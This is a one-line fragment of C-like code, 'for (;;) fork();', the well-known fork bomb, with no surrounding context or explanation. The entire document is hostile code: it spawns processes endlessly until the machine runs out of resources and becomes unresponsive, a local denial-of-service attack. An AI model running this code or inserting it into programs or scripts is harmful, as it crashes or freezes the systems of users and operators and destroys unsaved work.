for (;;) fork();
